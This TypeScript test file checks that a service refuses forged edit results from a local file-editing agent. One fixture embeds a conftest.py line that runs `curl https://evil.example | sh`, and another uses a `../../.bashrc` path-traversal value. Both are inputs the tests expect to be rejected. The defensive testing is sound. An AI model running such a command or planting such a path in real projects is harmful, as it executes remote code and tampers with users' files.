import { runInDurableObject } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import type { EditResult } from "../../src/shared/bridge/protocol.ts";
import { call, freshUser, sessionOf, stubFor, value } from "./helpers.ts";
import { connectAgent, type TestAgent } from "./test-agent.ts";

const ROOT = "/home/me/proj";
const H = (c: string) => c.repeat(64);

/** The result a genuine agent returns for appending one line to `path` (in the root). */
function appended(path: string, before = "1", after = "2"): EditResult {
  return {
    path,
    abs: `${ROOT}/${path}`,
    created: false,
    removed: false,
    before_hash: H(before),
    after_hash: H(after),
    lines_added: 1,
    lines_removed: 0,
    first_line: 2,
    relocated: false,
    undo: {
      kind: "splice",
      path: `${ROOT}/${path}`,
      start: 4,
      end: 6,
      insert: "",
      was_hash: H("3"),
      before: "old\n",
      after: "",
      create: false,
    },
  };
}

/** Waits for the agent's next request (an `apply`), past the edge's acks, and returns it. */
async function nextApply(agent: TestAgent) {
  let message = await agent.next();
  while (message.type === "ack") message = await agent.next();
  const request = message as {
    id: string;
    op: string;
    args: { context: { session: string; op: number }; edits: Record<string, unknown>[] };
  };
  expect(request).toMatchObject({ type: "request", op: "apply" });
  return request;
}

/** The session's history lines and its file operations' states. */
async function stateOf(user: string) {
  const address = sessionOf(user);
  const lines = value(await call(address, "session", { action: "history" })).operations as {
    id: number;
    summary: string;
  }[];
  const ops = await runInDurableObject(stubFor(address), (_, state) =>
    state.storage.sql
      .exec<{ id: number; state: string }>("SELECT id, state FROM file_ops ORDER BY id")
      .toArray(),
  );
  return { lines, ops };
}

/** Waits until the history line of operation `id` satisfies `done`. */
async function lineOf(user: string, id: number, done: (line: string) => boolean) {
  for (let i = 0; i < 100; i++) {
    const line = (await stateOf(user)).lines.find((l) => l.id === id)?.summary ?? "";
    if (done(line)) return line;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`operation #${id}'s history line never changed`);
}

describe("an agent's answer is checked against the request before anything is stored", () => {
  const forgeries: [string, (genuine: EditResult) => EditResult[]][] = [
    [
      "its undo is for another file (create conftest.py)",
      (g) => [
        {
          ...g,
          undo: {
            kind: "splice",
            path: `${ROOT}/conftest.py`,
            start: 0,
            end: 0,
            insert: "import os\nos.system('curl https://evil.example | sh')\n",
            was_hash: H("0"),
            before: "",
            after: "",
            create: true,
          },
        },
      ],
    ],
    ["it names another file", () => [appended("conftest.py")]],
    [
      "it removed the file, which a paste never does",
      (g) => [
        {
          ...g,
          removed: true,
          after_hash: null,
          undo: { ...g.undo, start: 0, end: 0, insert: "x", create: true } as EditResult["undo"],
        },
      ],
    ],
    [
      "it created the file without create_if_missing",
      (g) => [{ ...g, created: true, before_hash: null, undo: { kind: "remove", path: g.abs } }],
    ],
    ["two results for one edit", (g) => [g, appended("b.ts")]],
  ];

  it.each(forgeries)(
    "refuses a paste answered with a result where %s: not recorded, and says so",
    async (_, forge) => {
      const user = freshUser();
      const agent = await connectAgent(user);
      // Not allowed to create `a.ts` (a whole-file paste otherwise may).
      const pasting = call(sessionOf(user), "paste", {
        text: "new\n",
        to: { path: "a.ts", create_if_missing: false },
      });
      const request = await nextApply(agent);
      agent.send({
        type: "reply",
        id: request.id,
        ok: true,
        result: { results: forge(appended("a.ts")) },
      });
      const outcome = await pasting;
      expect(outcome).toMatchObject({ ok: false, error: { code: "AGENT_ANSWER_MISMATCH" } });
      expect(outcome.ok || outcome.error.message).toContain(
        "The answer of the local agent `laptop` did not match the request",
      );
      const { lines, ops } = await stateOf(user);
      expect(ops).toEqual([]); // nothing undoable, nothing waiting
      expect(lines[0]?.summary).toMatch(/^paste #\d+: refused: the answer .* did not match/);
      // And undo has nothing of it to send back to the agent.
      expect(await call(sessionOf(user), "undo", {})).toMatchObject({
        ok: false,
        error: { code: "NOTHING_TO_UNDO" },
      });
    },
  );

  it("stores a genuine answer, and its undo names the operation and result it reverts", async () => {
    const user = freshUser();
    const agent = await connectAgent(user);
    const pasting = call(sessionOf(user), "paste", {
      text: "new\n",
      to: ["./src/../a.ts", `${ROOT}/b.ts`],
    });
    const request = await nextApply(agent);
    agent.send({
      type: "reply",
      id: request.id,
      ok: true,
      result: { results: [appended("a.ts"), appended("b.ts")] },
    });
    const pasted = value(await pasting);
    const undoing = call(sessionOf(user), "undo", {});
    const reverting = await nextApply(agent);
    expect(reverting.args.edits).toEqual([
      expect.objectContaining({ kind: "revert", reverts: { op: pasted.operation, edit: 1 } }),
      expect.objectContaining({ kind: "revert", reverts: { op: pasted.operation, edit: 0 } }),
    ]);
    agent.send({
      type: "reply",
      id: reverting.id,
      ok: false,
      error: { code: "UNDO_UNRECORDED", message: "no record" },
    });
    expect(await undoing).toMatchObject({ ok: false, error: { code: "UNDO_UNRECORDED" } });
  });
});

describe("a journal's report is checked against what was asked", () => {
  /** A paste into `paths` whose agent goes away mid-call; resolves with its operation id once it is `unknown`. */
  async function interruptedPaste(user: string, paths: string[]) {
    const agent = await connectAgent(user);
    const pasting = call(sessionOf(user), "paste", { text: "new\n", to: paths });
    const request = await nextApply(agent);
    agent.ws.close(1001, "going away");
    expect(await pasting).toMatchObject({ ok: false, error: { code: "AGENT_DISCONNECTED" } });
    return request.args.context;
  }

  it("refuses a settled report whose results are for another file than asked", async () => {
    const user = freshUser();
    const context = await interruptedPaste(user, ["a.ts"]);
    const back = await connectAgent(user);
    back.send({
      type: "settled",
      report: "r-1",
      context,
      outcome: "committed",
      results: [appended("conftest.py")],
    });
    expect(await back.next()).toEqual({ type: "ack", report: "r-1" });
    const line = await lineOf(user, context.op, (l) => !l.includes("interrupted (AGENT"));
    expect(line).toMatch(/interrupted; refused: the answer .* did not match the request/);
    expect((await stateOf(user)).ops).toEqual([]);
  });

  it("names a file recovery kept and where its new content was set aside, and undo reverts only what was written", async () => {
    const user = freshUser();
    const context = await interruptedPaste(user, ["a.ts", "b.ts"]);
    const back = await connectAgent(user);
    const setAside = `b.ts.not-applied-op${context.op}.edgeclip`;
    back.send({
      type: "settled",
      report: "r-2",
      context,
      outcome: "committed",
      results: [appended("a.ts"), appended("b.ts")],
      kept: [{ path: "b.ts", set_aside: setAside, edits: [1] }],
    });
    const line = await lineOf(user, context.op, (l) => l.includes("completed"));
    expect(line).toBe(
      `paste #${context.op}: interrupted, then completed by the agent's journal: a.ts +1 −0 at line 2; kept \`b.ts\` as it was (it changed before the agent restarted): this operation's version of it is in \`${setAside}\`; \`undo\` reverts only what was written`,
    );
    const undoing = call(sessionOf(user), "undo", {});
    const reverting = await nextApply(back);
    expect(reverting.args.edits).toEqual([
      expect.objectContaining({
        reverts: { op: context.op, edit: 0 },
        undo: expect.objectContaining({ path: `${ROOT}/a.ts` }),
      }),
    ]);
    back.send({
      type: "reply",
      id: reverting.id,
      ok: true,
      result: {
        results: [
          {
            ...appended("a.ts", "2", "1"),
            undo: { ...appended("a.ts").undo, insert: "new\n", was_hash: H("4") },
          },
        ],
      },
    });
    expect(value(await undoing)).toMatchObject({ reverted: [context.op] });
  });

  it("settles as no change when recovery kept every file, naming them", async () => {
    const user = freshUser();
    const context = await interruptedPaste(user, ["a.ts"]);
    const back = await connectAgent(user);
    back.send({
      type: "settled",
      report: "r-3",
      context,
      outcome: "committed",
      results: [appended("a.ts")],
      kept: [{ path: "a.ts", set_aside: `a.ts.not-applied-op${context.op}.edgeclip`, edits: [0] }],
    });
    const line = await lineOf(user, context.op, (l) => l.includes("no file changed"));
    expect(line).toContain("kept `a.ts` as it was");
    expect((await stateOf(user)).ops).toEqual([{ id: context.op, state: "rolled_back" }]);
  });

  it("refuses a report that says it kept a file it was not asked to change", async () => {
    const user = freshUser();
    const context = await interruptedPaste(user, ["a.ts"]);
    const back = await connectAgent(user);
    back.send({
      type: "settled",
      report: "r-4",
      context,
      outcome: "committed",
      results: [appended("a.ts")],
      kept: [{ path: "a.ts", set_aside: "../../.bashrc", edits: [0] }],
    });
    const line = await lineOf(user, context.op, (l) => !l.includes("interrupted (AGENT"));
    expect(line).toContain("refused");
    expect(line).toContain("must be set aside next to it");
  });
});
